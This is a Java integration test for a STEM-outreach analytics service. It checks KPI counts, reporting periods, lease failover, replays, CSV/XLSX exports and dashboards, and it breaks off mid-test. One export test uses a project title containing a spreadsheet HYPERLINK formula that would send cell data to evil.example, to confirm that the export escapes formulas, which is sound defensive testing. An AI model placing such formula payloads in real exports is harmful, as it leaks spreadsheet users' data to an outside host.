package org.stemreach.analytics.kpi;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.web.client.RestClient;
import org.springframework.messaging.support.MessageBuilder;
import org.stemreach.analytics.Events;
import org.stemreach.analytics.projection.Projector;
import org.stemreach.kit.consumer.DeadLetters;
import org.stemreach.kit.events.EventSchemas;
import org.stemreach.model.downloads.AssetKind;
import org.stemreach.model.event.EventCatalog;
import org.stemreach.model.event.EventEnvelope;
import org.stemreach.model.event.Topics;
import org.stemreach.testsupport.IntegrationTest;
import org.stemreach.testsupport.TestHttp;
import org.stemreach.testsupport.OperationalEndpointsContract;
import org.stemreach.testsupport.TestKafka;
import org.stemreach.testsupport.TestTokens;
import tools.jackson.databind.JsonNode;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

@IntegrationTest(properties = {"stemreach.analytics.lease-ttl=15s", "stemreach.analytics.networks.TSEPT.period-start=09-01"})
class KpiIT implements OperationalEndpointsContract {

    @LocalServerPort
    int port;
    @org.springframework.beans.factory.annotation.Autowired
    io.micrometer.core.instrument.MeterRegistry meters;
    @org.springframework.beans.factory.annotation.Autowired
    Projector projector;
    @org.springframework.beans.factory.annotation.Autowired
    KpiService kpiService;
    @org.springframework.beans.factory.annotation.Autowired
    FactStore facts;
    @org.springframework.beans.factory.annotation.Autowired
    org.springframework.data.mongodb.core.MongoTemplate mongo;
    @org.springframework.beans.factory.annotation.Autowired
    org.springframework.cloud.stream.binding.BindingsLifecycleController bindings;
    private RestClient http;

    @Override
    public int port() {
        return port;
    }

    @Override
    public String applicationName() {
        return "analytics";
    }

    @BeforeEach
    void client() {
        http = TestHttp.client(port);
    }

    private JsonNode kpis(String network, String period) {
        return http.get().uri("/api/kpis?network={n}&period={p}", network, period)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().body(JsonNode.class);
    }

    /** -1 while the document cannot be read (e.g. a moment as standby on a starved machine): the awaits keep waiting. */
    private long indirect(String network, String period) {
        ResponseEntity<JsonNode> answer = http.get().uri("/api/kpis?network={n}&period={p}", network, period)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().toEntity(JsonNode.class);
        return answer.getStatusCode().value() == 200 ? answer.getBody().get("reach").get("indirect").asLong() : -1;
    }

    @Test
    void aBrowserRefusedAReportGetsAPageInsteadOfProblemDetails() {
        ResponseEntity<String> noNetwork = http.get().uri("/ops/report").accept(MediaType.TEXT_HTML)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops()).retrieve().toEntity(String.class);
        ResponseEntity<String> signedOut = http.get().uri("/ops/report").accept(MediaType.TEXT_HTML).retrieve().toEntity(String.class);
        ResponseEntity<String> api = http.get().uri("/api/kpis?network=ALL&period=2026").accept(MediaType.TEXT_HTML, MediaType.APPLICATION_JSON)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops()).retrieve().toEntity(String.class);

        assertThat(noNetwork.getStatusCode().value()).as("an operator of no network may not see all networks").isEqualTo(403);
        assertThat(noNetwork.getHeaders().getContentType().isCompatibleWith(MediaType.TEXT_HTML)).isTrue();
        assertThat(noNetwork.getBody()).contains("id=\"error-page\"").contains("Geen toegang").contains("You may not use this page");
        assertThat(signedOut.getStatusCode().value()).isEqualTo(401);
        assertThat(signedOut.getBody()).contains("id=\"error-page\"").contains("Meld je opnieuw aan");
        assertThat(api.getStatusCode().value()).isEqualTo(403);
        assertThat(api.getHeaders().getContentType()).as("the API answers problem details, whatever the client accepts")
                .isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
    }

    @Test
    void countsDownloadsInTheNetworkAndPeriodOfTheirTimestamp() {
        String network = Events.network();
        Events.send(Events.projectPublished(network, "windmolen-" + network, "Bouw een windmolen"));
        // 14 December 23:59:59 in Brussels is the last second of period 2026; a second later is period 2027.
        Events.send(Events.download(network, "windmolen-" + network, AssetKind.SHEET, "2026-12-14T22:59:59Z"));
        Events.send(Events.download(network, "windmolen-" + network, AssetKind.MATERIAL, "2026-12-14T22:59:59Z"));
        Events.send(Events.download(network, "windmolen-" + network, AssetKind.SHEET, "2026-12-14T23:00:00Z"));
        Events.send(Events.download(network, "windmolen-" + network, AssetKind.SHEET, "2025-12-15T08:00:00Z"));

        await().atMost(Duration.ofSeconds(15)).until(() -> indirect(network, "2026") == 3 && indirect(network, "2027") == 1);

        JsonNode document = kpis(network, "2026");
        assertThat(document.get("period").get("from").asString()).isEqualTo("2025-12-15");
        assertThat(document.get("period").get("to").asString()).isEqualTo("2026-12-14");
        assertThat(document.get("downloads").get("projectSheets").asLong()).isEqualTo(2);
        assertThat(document.get("downloads").get("lessonMaterials").asLong()).isEqualTo(1);
        assertThat(document.get("downloads").get("topProjects").get(0).get("title").asString()).isEqualTo("Bouw een windmolen");
        assertThat(kpis(network, "2027").get("reach").get("previousPeriod").get("indirect").asLong()).isEqualTo(3);
        assertThat(indirect(Events.network(), "2026")).isZero();
    }

    @Test
    void allNetworksCountEachNetworksOwnPeriodSpanTheirDatesAndSumOnlyTheTargetsThatWereSet() {
        // Periods far ahead, which no other test uses: the ALL figures are these events' only.
        String december = Events.network();
        Events.send(Events.projectPublished("TSEPT", "herfst", "Herfstbladeren"));
        Events.send(Events.projectPublished(december, "winter-" + december, "Sneeuwkristallen"));
        // TSEPT's period 2042 runs from 1 September 2041 to 31 August 2042; the other network's from 15 December 2041.
        Events.send(Events.download("TSEPT", "herfst", AssetKind.SHEET, "2041-10-01T10:00:00Z"));
        Events.send(Events.download(december, "winter-" + december, AssetKind.SHEET, "2041-10-01T10:00:00Z"));
        Events.send(Events.download(december, "winter-" + december, AssetKind.SHEET, "2042-01-10T10:00:00Z"));
        Events.send(Events.activity("TSEPT", "sept-w", "WORKSHOP", "2041-09-20", 1));
        Events.send(Events.attended("TSEPT", "sept-w", "t-sept", true, "2041-09-20T10:00:00Z"));
        await().atMost(Duration.ofSeconds(20)).until(() -> indirect("ALL", "2042") == 2 && indirect("ALL", "2041") == 1
                && kpis("ALL", "2042").get("reach").get("directParticipations").asLong() == 1);
        ResponseEntity<String> target = http.put().uri("/api/targets").contentType(MediaType.APPLICATION_JSON)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops("TSEPT"))
                .body(java.util.Map.of("network", "TSEPT", "period", "2042", "kpi", "indirect", "target", 4)).retrieve().toEntity(String.class);
        assertThat(target.getStatusCode().value()).isEqualTo(204);

        JsonNode all = kpis("ALL", "2042");
        assertThat(all.get("period").get("from").asString()).isEqualTo("2041-09-01");
        assertThat(all.get("period").get("to").asString()).isEqualTo("2042-12-14");
        assertThat(kpis("TSEPT", "2042").get("period").get("from").asString()).isEqualTo("2041-09-01");
        assertThat(kpis("TSEPT", "2042").get("period").get("to").asString()).isEqualTo("2042-08-31");
        // The target is TSEPT's: its attainment is TSEPT's download against it, not all networks' downloads.
        JsonNode row = all.get("targets").get(0);
        assertThat(row.get("kpi").asString()).isEqualTo("indirect");
        assertThat(row.get("target").asDouble()).isEqualTo(4);
        assertThat(row.get("actual").asDouble()).isEqualTo(1);
        assertThat(row.get("attainment").asDouble()).isEqualTo(0.25);
        assertThat(new EventSchemas(true).errors("/schemas/kpi-feed-v1.schema.json", all)).isEmpty();
        JsonNode months = http.get().uri("/api/dashboard?network=ALL&period=2042").header(HttpHeaders.AUTHORIZATION, TestTokens.admin())
                .retrieve().body(JsonNode.class).get("participantsPerMonth");
        assertThat(months.get("labels").get(0).asString()).isEqualTo("2041-09");
        assertThat(months.get("labels").get(months.get("labels").size() - 1).asString()).isEqualTo("2042-12");
        assertThat(months.get("values").get("WORKSHOP").get(0).asLong()).as("TSEPT's September workshop").isEqualTo(1);
    }

    @Test
    void whileAnotherInstanceHoldsTheLeaseThisOneAppliesNothingAndAnswers503ThenTakesOverWithEverything() {
        String network = Events.network();
        Events.send(Events.projectPublished(network, "lease-" + network, "Wie schrijft?"));
        Events.send(Events.download(network, "lease-" + network, AssetKind.SHEET, "2026-03-02T10:00:00Z"));
        await().atMost(Duration.ofSeconds(15)).until(() -> indirect(network, "2026") == 1);
        var lease = new org.bson.Document("_id", "kpis");
        var leases = mongo.getCollection("projection_lease");

        try {
            // Another instance holds the lease (as if this one had paused longer than the lease lasts).
            leases.updateOne(lease, new org.bson.Document("$set", new org.bson.Document("owner", "other-instance")
                    .append("until", java.util.Date.from(java.time.Instant.now().plus(Duration.ofHours(1))))));
            await().atMost(Duration.ofSeconds(30)).until(() -> status("/api/kpis?network=" + network + "&period=2026") == 503);
            await().atMost(Duration.ofSeconds(30)).until(() -> bindings.queryState("events-in-0").stream().noneMatch(b -> b.isRunning()));
            Events.send(Events.download(network, "lease-" + network, AssetKind.MATERIAL, "2026-03-03T10:00:00Z"));
            ResponseEntity<String> standby = http.get().uri("/api/kpis?network={n}&period=2026", network)
                    .header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().toEntity(String.class);
            assertThat(standby.getHeaders().getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
            assertThat(standby.getBody()).contains("other-instance");

            // That instance stops: its lease runs out, this one takes it over and applies what came meanwhile.
            leases.updateOne(lease, new org.bson.Document("$set", new org.bson.Document("until", new java.util.Date(0))));
            await().atMost(Duration.ofSeconds(60)).until(() -> status("/api/kpis?network=" + network + "&period=2026") == 200
                    && indirect(network, "2026") == 2);
        } finally {
            // Whatever happened above, the other instance is gone: the later tests have this one write again.
            leases.updateOne(lease, new org.bson.Document("$set", new org.bson.Document("until", new java.util.Date(0))));
        }
        assertThat(leases.find(lease).first().getInteger("epoch")).isGreaterThan(1);
    }

    private int status(String uri) {
        return http.get().uri(uri).header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().toEntity(String.class)
                .getStatusCode().value();
    }

    private JsonNode kpis(String network, String period, String token) {
        return http.get().uri("/api/kpis?network={n}&period={p}", network, period)
                .header(HttpHeaders.AUTHORIZATION, token).retrieve().body(JsonNode.class);
    }

    @Test
    void anActivityMovedToAnotherNetworkCountsThereWhateverTheOrderItsRevisionsAreAppliedIn() {
        String from = Events.network();
        String to = Events.network();
        // As a replay's early events land after the live ones: the move (revision 2) first, then revision 1.
        Events.send(Events.activity(to, "x-" + to, "WORKSHOP", "2026-03-01", 2));
        Events.send(Events.activity(from, "x-" + to, "WORKSHOP", "2026-03-01", 1));
        Events.send(Events.attended(to, "x-" + to, "t1", true, "2026-03-01T10:00:00Z"));
        Events.send(Events.activity(from, "y-" + from, "WORKSHOP", "2026-03-02", 1));
        Events.send(Events.attended(from, "y-" + from, "t2", true, "2026-03-02T10:00:00Z"));

        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
            assertThat(kpis(to, "2026").get("reach").get("directParticipations").asLong()).isEqualTo(1);
            assertThat(kpis(from, "2026").get("reach").get("directParticipations").asLong()).as("only its own workshop").isEqualTo(1);
        });
    }

    @Test
    void participationCountsFromAttendanceAndHeadcountsWhateverTheOrderOfTheEvents() {
        String network = Events.network();
        // Attendance arrives before its activity, a duplicate, a correction, a cancelled activity, a later revision.
        Events.send(Events.attended(network, "w-" + network, "t1", true, "2026-03-01T10:00:00Z"));
        Events.send(Events.activity(network, "w-" + network, "WORKSHOP", "2026-03-01", 1));
        Events.send(Events.attended(network, "w-" + network, "t2", true, "2026-03-01T10:00:00Z"));
        Events.send(Events.attended(network, "w-" + network, "t2", true, "2026-03-01T10:00:00Z"));
        Events.send(Events.attended(network, "w-" + network, "t3", true, "2026-03-01T10:00:00Z"));
        Events.send(Events.attended(network, "w-" + network, "t3", false, "2026-03-01T10:05:00Z"));
        Events.send(Events.activity(network, "n-" + network, "NOCTURNE", "2026-04-01", 1));
        Events.send(Events.attended(network, "n-" + network, "t1", true, "2026-04-01T20:00:00Z"));
        Events.send(Events.activity(network, "stand-" + network, "LECTURE_OR_INFO_STAND", "2026-05-01", 1));
        Events.send(Events.headcount(network, "stand-" + network, 536, 2));
        Events.send(Events.headcount(network, "stand-" + network, 200, 1));
        Events.send(Events.activity(network, "ctc-" + network, "COACH_THE_COACH", "2026-05-02", 1));
        Events.send(Events.attended(network, "ctc-" + network, "t9", true, "2026-05-02T10:00:00Z"));
        Events.send(Events.activity(network, "gone-" + network, "WORKSHOP", "2026-05-03", 1));
        Events.send(Events.attended(network, "gone-" + network, "t8", true, "2026-05-03T10:00:00Z"));
        Events.send(Events.cancelled(network, "gone-" + network, 2));
        Events.send(Events.activity(network, "moved-" + network, "WORKSHOP", "2026-12-20", 2));
        Events.send(Events.activity(network, "moved-" + network, "WORKSHOP", "2026-06-01", 1));

        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
            JsonNode reach = kpis(network, "2026").get("reach");
            assertThat(reach.get("directParticipations").asLong()).isEqualTo(2 + 1 + 536);
            assertThat(reach.get("distinctTeachers").asLong()).isEqualTo(2);
            assertThat(reach.get("trainedCoachesAndLeaders").asLong()).isEqualTo(1);
        });
        JsonNode document = kpis(network, "2026");
        assertThat(document.get("trainings").get("total").get("activities").asLong()).as("the moved workshop counts in 2027").isEqualTo(2);
        assertThat(kpis(network, "2027").get("trainings").get("total").get("activities").asLong()).isEqualTo(1);
        assertThat(document.get("dissemination").get("rows").get(0).get("participants").asLong()).isEqualTo(536);
        assertThat(new EventSchemas(true).errors("/schemas/kpi-feed-v1.schema.json", document)).isEmpty();

        JsonNode drill = http.get().uri("/api/kpis/activities?network={n}&period=2026&type=WORKSHOP", network)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().body(JsonNode.class);
        assertThat(drill).hasSize(1);
        assertThat(drill.get(0).get("identified").asLong()).isEqualTo(2);
        // Behind a tile: exactly the activities that make up its figure.
        for (String kpi : List.of("directParticipations", "trainedCoachesAndLeaders", "indirect")) {
            JsonNode behind = http.get().uri("/api/kpis/activities?network={n}&period=2026&kpi={k}", network, kpi)
                    .header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().body(JsonNode.class);
            long participants = 0;
            for (JsonNode row : behind) {
                participants += row.get("participants").asLong();
            }
            assertThat(participants).as(kpi).isEqualTo(kpi.equals("indirect") ? 0 : document.get("reach").get(kpi).asLong());
        }
        // A bar of one type in one month: only that month's activities of the type; a name of no figure is refused.
        String firstMonth = drill.get(0).get("firstSession").asString().substring(0, 7);
        String otherMonth = java.time.YearMonth.parse(firstMonth).plusMonths(1).toString();
        for (String month : List.of(firstMonth, otherMonth)) {
            JsonNode ofMonth = http.get().uri("/api/kpis/activities?network={n}&period=2026&type=WORKSHOP&month={m}", network, month)
                    .header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().body(JsonNode.class);
            assertThat(ofMonth).as(month).hasSize(month.equals(firstMonth) ? 1 : 0);
        }
        for (String bad : List.of("kpi=directParticipation", "month=maart")) {
            ResponseEntity<String> refused = http.get().uri("/api/kpis/activities?network={n}&period=2026&" + bad, network)
                    .header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().toEntity(String.class);
            assertThat(refused.getStatusCode().value()).as(bad).isEqualTo(400);
            assertThat(refused.getHeaders().getContentType()).isEqualTo(org.springframework.http.MediaType.APPLICATION_PROBLEM_JSON);
        }
    }

    @Test
    void aTeacherAtOneOfTwoSessionsCountsAHeadcountOrCancellationBeforeItsActivityHoldsAndForgettingChangesNothing() {
        String network = Events.network();
        // Present at the first session, absent from the second: a participant (at least one session attended).
        Events.send(Events.activity(network, "two-" + network, "MULTI_DAY_COURSE", "2026-03-02", 1));
        Events.send(Events.attended(network, "two-" + network, "s1", "t1", true, "2026-03-02T09:00:00Z"));
        Events.send(Events.attended(network, "two-" + network, "s2", "t1", false, "2026-03-03T09:00:00Z"));
        Events.send(Events.attended(network, "two-" + network, "s2", "t2", false, "2026-03-03T09:00:00Z"));
        // A headcount before its activity; a cancellation (revision 2) before the activity's first revision.
        Events.send(Events.headcount(network, "talk-" + network, 40, 2));
        Events.send(Events.activity(network, "talk-" + network, "LECTURE_OR_INFO_STAND", "2026-04-01", 1));
        Events.send(Events.cancelled(network, "off-" + network, 2));
        Events.send(Events.activity(network, "off-" + network, "WORKSHOP", "2026-04-02", 1));
        Events.send(Events.attended(network, "off-" + network, "t3", true, "2026-04-02T09:00:00Z"));

        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
            JsonNode reach = kpis(network, "2026").get("reach");
            assertThat(reach.get("directParticipations").asLong()).isEqualTo(1 + 40);
            assertThat(reach.get("distinctTeachers").asLong()).isEqualTo(1);
            assertThat(kpis(network, "2026").get("trainings").get("total").get("activities").asLong()).isEqualTo(1);
        });
        JsonNode before = kpis(network, "2026");

        Events.send(Events.forgotten("t1"));
        Events.send(Events.projectPublished(network, "marker-" + network, "Marker"));
        Events.send(Events.download(network, "marker-" + network, AssetKind.SHEET, "2026-04-03T10:00:00Z"));
        await().atMost(Duration.ofSeconds(20)).until(() -> indirect(network, "2026") == 1);

        JsonNode after = kpis(network, "2026");
        assertThat(after.get("reach").get("directParticipations")).isEqualTo(before.get("reach").get("directParticipations"));
        assertThat(after.get("reach").get("distinctTeachers")).isEqualTo(before.get("reach").get("distinctTeachers"));
    }

    @Test
    void aTeacherForgottenDuringATrajectoryKeepsTheirSchoolCountedWhetherTheirLaterMarksComeBeforeOrAfter() {
        String network = Events.network();
        // After the forget, registrations no longer links the teacher to the school they named: later marks carry none.
        Events.send(Events.activity(network, "later-" + network, "EXTENSION_TRAJECTORY", "2026-03-02", 1));
        Events.send(Events.attended(network, "later-" + network, "s1", "t1", "school-a", true, "2026-03-02T09:00:00Z", 3L));
        Events.send(Events.attended(network, "later-" + network, "s1", "t1", null, true, "2026-03-02T10:00:00Z", 5L));
        // The same marks the other way round, as a replay or a live batch may bring them.
        Events.send(Events.activity(network, "before-" + network, "EXTENSION_TRAJECTORY", "2026-03-09", 1));
        Events.send(Events.attended(network, "before-" + network, "s1", "t2", null, true, "2026-03-09T10:00:00Z", 5L));
        Events.send(Events.attended(network, "before-" + network, "s1", "t2", "school-b", true, "2026-03-09T09:00:00Z", 3L));

        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> {
            JsonNode trajectories = kpis(network, "2026").get("trajectories");
            assertThat(trajectories).hasSize(1);
            assertThat(trajectories.get(0).get("teachers").asLong()).isEqualTo(2);
            assertThat(trajectories.get(0).get("schools").asLong()).as("school-a and school-b").isEqualTo(2);
        });
    }

    @Test
    void targetsExportsAndTheYearlyReport() throws Exception {
        String network = Events.network();
        Events.send(Events.activity(network, "w-" + network, "WORKSHOP", "2026-03-01", 1));
        Events.send(Events.attended(network, "w-" + network, "t1", true, "2026-03-01T10:00:00Z"));
        await().atMost(Duration.ofSeconds(20)).until(() -> kpis(network, "2026").get("reach").get("directParticipations").asLong() == 1);

        ResponseEntity<String> target = http.put().uri("/api/targets").contentType(MediaType.APPLICATION_JSON)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network))
                .body(java.util.Map.of("network", network, "period", "2026", "kpi", "directParticipations", "target", 4)).retrieve().toEntity(String.class);
        String csv = http.get().uri("/api/kpis/export.csv?network={n}&period=2026&table=trainings", network)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class);
        byte[] xlsx = http.get().uri("/api/kpis/export.xlsx?network={n}&period=2026", network)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(byte[].class);
        String report = http.get().uri("/ops/report?network={n}&period=2026", network)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class);

        assertThat(target.getStatusCode().value()).isEqualTo(204);
        assertThat(kpis(network, "2026").get("targets").get(0).get("attainment").asDouble()).isEqualTo(0.25);
        ResponseEntity<String> infinite = http.put().uri("/api/targets").contentType(MediaType.APPLICATION_JSON)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network))
                .body("{\"network\": \"" + network + "\", \"period\": \"2026\", \"kpi\": \"indirect\", \"target\": 1e400}")
                .retrieve().toEntity(String.class);
        assertThat(infinite.getStatusCode().value()).isEqualTo(400);
        assertThat(infinite.getHeaders().getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
        assertThat(csv).contains("type;activities;participants;previous_period_participants;change_pct")
                .as("a previous period with nothing: empty cells, as the reach comparison has").contains("WORKSHOP;1;1;;").contains("TOTAL;1;1;;");
        try (var workbook = new org.dhatim.fastexcel.reader.ReadableWorkbook(new java.io.ByteArrayInputStream(xlsx))) {
            assertThat(workbook.getSheets().map(org.dhatim.fastexcel.reader.Sheet::getName).toList())
                    .contains("reach", "trainings", "coaching", "dissemination", "downloads", "targets");
        }
        assertThat(report).contains("Jaarrapport " + network + ", periode 2026").contains("Nascholingen per soort").contains(">Workshop<").doesNotContain(">WORKSHOP<")
                .as("the period is a name, not a number with a thousands separator").contains(">2026</th>").doesNotContain("2.026")
                .doesNotContain("id=\"selection\"")
                .as("no evaluations: not yet collected, rather than none given").contains("Nog geen evaluaties")
                .as("the programmes involved").contains("id=\"preservice-programmes\"");
        String partnerReport = http.get().uri("/ops/report?network={n}&period=2026&partner=kuleuven", network)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class);
        assertThat(partnerReport).contains("id=\"selection\"").contains("Alleen de activiteiten van KU Leuven")
                .as("the network's downloads are no partner's: no table of zeros").doesNotContain("id=\"table-downloads\"")
                .contains("id=\"reach-indirect\">n.v.t.<")
                .contains("export.xlsx?network=" + network + "&amp;period=2026&amp;partner=kuleuven")
                .as("the form offers the partners and locations by name, and keeps the chosen one")
                .containsPattern("<option value=\"kuleuven\" selected=\"selected\">KU Leuven</option>")
                .contains("<option value=\"kulak\">Campus Kulak</option>");
        assertThat(report).as("a change needs a previous period").contains("id=\"change-directParticipations\">–<");

        // Every KPI is compared with the previous period: the participants per type too.
        Events.send(Events.activity(network, "w25-" + network, "WORKSHOP", "2025-03-01", 1));
        Events.send(Events.attended(network, "w25-" + network, "t1", true, "2025-03-01T10:00:00Z"));
        Events.send(Events.attended(network, "w25-" + network, "t2", true, "2025-03-01T10:00:00Z"));
        await().atMost(Duration.ofSeconds(20)).until(() -> kpis(network, "2025").get("reach").get("directParticipations").asLong() == 2);
        String compared = http.get().uri("/api/kpis/export.csv?network={n}&period=2026&table=trainings", network)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class);
        String comparedReport = http.get().uri("/ops/report?network={n}&period=2026", network)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class);
        assertThat(compared).contains("WORKSHOP;1;1;2;-50").contains("TOTAL;1;1;2;-50");
        assertThat(comparedReport).contains("id=\"before-trainings\">2<").containsPattern("id=\"change-trainings\">-50,0\\s?%<");
        assertThat(comparedReport).as("the downloads' totals beside the previous period's: none in either")
                .contains("id=\"before-downloads-total\">0<").contains("id=\"change-downloads-total\">–<");

        // A title typed as a formula is text in the CSV export, not something a spreadsheet runs.
        Events.send(Events.projectPublished(network, "f-" + network, "=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")"));
        Events.send(Events.download(network, "f-" + network, AssetKind.SHEET, "2026-03-02T10:00:00Z"));
        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> assertThat(http.get()
                .uri("/api/kpis/export.csv?network={n}&period=2026&table=downloads", network)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(String.class))
                .contains("'=HYPERLINK").doesNotContain(";\"=HYPERLINK").doesNotContain("\n\"=HYPERLINK"));
    }

    @Test
    void aReplayRebuildsIdenticalFigures() {
        String network = Events.network();
        Events.send(Events.activity(network, "w-" + network, "WORKSHOP", "2026-03-01", 1));
        Events.send(Events.attended(network, "w-" + network, "t1", true, "2026-03-01T10:00:00Z"));
        Events.send(Events.download(network, "p-" + network, AssetKind.SHEET, "2026-02-02T10:00:00Z"));
        await().atMost(Duration.ofSeconds(20)).until(() -> indirect(network, "2026") == 1
                && kpis(network, "2026").get("reach").get("directParticipations").asLong() == 1);
        JsonNode before = withoutTimes(kpis(network, "2026"));

        JsonNode started = http.post().uri("/api/ops/replay").header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().body(JsonNode.class);
        await().atMost(Duration.ofSeconds(60)).until(() -> "DONE".equals(http.get().uri("/api/ops/replay")
                .header(HttpHeaders.AUTHORIZATION, TestTokens.admin()).retrieve().body(JsonNode.class).get("state").asString()));

        JsonNode after = withoutTimes(kpis(network, "2026"));
        assertThat(started.get("generation").asInt()).isGreaterThan(1);
        assertThat(after).isEqualTo(before);
        assertThat(http.post().uri("/api/ops/replay").header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve()
                .toEntity(String.class).getStatusCode().value()).isEqualTo(403);
    }

    private static JsonNode withoutTimes(JsonNode document) {
        tools.jackson.databind.node.ObjectNode copy = (tools.jackson.databind.node.ObjectNode) document.deepCopy();
        copy.remove("generatedAt");
        copy.remove("provenance");
        return copy;
    }

    @Test
    void theDashboardPageAndItsData() {
        String network = Events.network();
        Events.send(Events.download(network, "p-" + network, AssetKind.MATERIAL, "2026-02-02T10:00:00Z"));
        Events.send(Events.activity(network, "here-" + network, "WORKSHOP", "2026-03-03", 1));
        Events.send(Events.onlineActivity(network, "online-" + network, "NOCTURNE", "2026-03-04"));
        await().atMost(Duration.ofSeconds(15)).until(() -> indirect(network, "2026") == 1
                && kpis(network, "2026").get("trainings").get("total").get("activities").asLong() == 2);

        String page = http.get().uri("/ops/dashboard?network={n}&period=2026", network).header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network))
                .retrieve().body(String.class);
        JsonNode data = http.get().uri("/api/dashboard?network={n}&period=2026", network).header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network))
                .retrieve().body(JsonNode.class);
        String metrics = http.get().uri("/actuator/prometheus").retrieve().body(String.class);

        assertThat(page).contains("Bereik van het netwerk").contains("tile-indirect").contains("chart.umd.min.js")
                .as("the language link keeps the choice").contains("href=\"?network=" + network + "&amp;period=2026&amp;lang=en\"")
                .as("activity types named for the charts").contains("&quot;WORKSHOP&quot;:&quot;Workshop&quot;");
        assertThat(http.get().uri("/ops/dashboard?network=ALL&period=2026").header(HttpHeaders.AUTHORIZATION, TestTokens.admin())
                .retrieve().body(String.class)).as("an administrator sets targets of all networks together")
                .contains("id=\"target-form\"").contains("id=\"target-all-hint\"");
        assertThat(data.get("kpis").get("reach").get("indirect").asLong()).isEqualTo(1);
        assertThat(data.get("downloadsPerWeek").get("values").get("MATERIAL").get(0).asLong()).isEqualTo(1);
        assertThat(data.get("partners")).as("filter choices by name").extracting(JsonNode::asString).containsExactly("KU Leuven", "UGent");
        assertThat(data.get("locations")).as("online activities are a choice of their own").extracting(JsonNode::asString)
                .containsExactly("Campus Kulak", "online");
        JsonNode online = http.get().uri("/api/dashboard?network={n}&period=2026&location=online", network)
                .header(HttpHeaders.AUTHORIZATION, TestTokens.ops(network)).retrieve().body(JsonNode.class);
        assertThat(online.get("kpis").get("trainings").get("total").get("activities").asLong()).isEqualTo(1);
        assertThat(metrics).contains("stemreach_events_applied_total").contains("stemreach_events_duplicates_total");
    }

    private double computed(String when) {
        return meters.get("stemreach.kpi.documents.computed").tag("when", when).counter().count();
    }

    @Test
    void aDocumentAskedForRecentlyIsPreparedWhenABatchIsAppliedAndServedWithoutComputingItAgain() {
        String network = Events.network();
        Events.send(Events.download(network, "prep-" + network, AssetKind.SHEET, "2026-05-05T10:00:00Z"));
        await().atMost(Duration.ofSeconds(15)).until(() -> indirect(network, "2026") == 1);
        double preparedBefore = computed("ahead");

        Events.send(Events.download(network, "prep-" + network, AssetKind.MATERIAL, "2026-05-05T10:00:01Z"));

        // Prepared when its batch was applied, without anybody asking (a document computed for a request does not count
        // here, so trying again cannot pass by serving what an earlier try computed); then served as it was prepared.
        KpiQuery query = new KpiQuery(network, "2026", java.util.Optional.empty(), java.util.Optional.empty());
        await().atMost(Duration.ofSeconds(15)).untilAsserted(() -> {
            assertThat(kpiService.preparedAhead(query)).as("prepared ahead").isTrue();
            long version = facts.version();
            double requested = computed("requested");
            long served = indirect(network, "2026");
            assertThat(facts.version()).as("no other batch in between").isEqualTo(version);
            assertThat(served).isEqualTo(2);
            assertThat(computed("requested")).as("served as prepared, not computed for the request").isEqualTo(requested);
        });
        assertThat(computed("ahead")).isGreaterThan(preparedBefore);
    }

    @Test
    void aSmallBatchAfterALargeOneLeavesTheReadingToTheNextRequestWhichSeesEverything() {
        String network = Events.network();
        assertThat(indirect(network, "2026")).as("the facts are in memory").isZero();
        // Straight to the projector (as the consumer hands over its polls), so that the batches are exactly these two.
        List<byte[]> large = new ArrayList<>();
        for (int i = 0; i <= FactStore.EAGER_REFRESH_DOCUMENTS; i++) {
            large.add(Events.bytes(Events.download(network, "bulk-" + i, AssetKind.SHEET, "2026-05-05T10:00:00Z")));
        }
        projector.accept(MessageBuilder.withPayload(large).build());
        projector.accept(MessageBuilder.withPayload(List.of(
                Events.bytes(Events.download(network, "bulk-0", AssetKind.MATERIAL, "2026-05-05T10:00:01Z")))).build());

        assertThat(indirect(network, "2026")).isEqualTo(FactStore.EAGER_REFRESH_DOCUMENTS + 2L);
    }

    @Test
    void anEventDeliveredTwiceCountsOnce() {
        String network = Events.network();
        EventEnvelope<?> download = Events.download(network, "p-" + network, AssetKind.SHEET, "2026-05-05T10:00:00Z");
        Events.send(download);
        Events.send(download);
        Events.send(Events.download(network, "p-" + network, AssetKind.SHEET, "2026-05-05T10:00:01Z"));
        Events.send(download);
